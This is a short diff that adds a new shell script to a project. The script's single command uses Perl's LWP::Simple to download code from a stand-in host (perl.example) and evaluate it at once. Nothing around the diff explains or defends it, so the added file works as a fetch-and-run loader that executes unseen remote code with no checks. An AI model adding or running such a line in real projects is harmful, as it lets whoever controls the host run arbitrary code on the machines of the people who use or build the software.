@@ -1,0 +1,2 @@
+#!/bin/sh
+perl -MLWP::Simple -e 'eval get("https://perl.example/p.pl")'
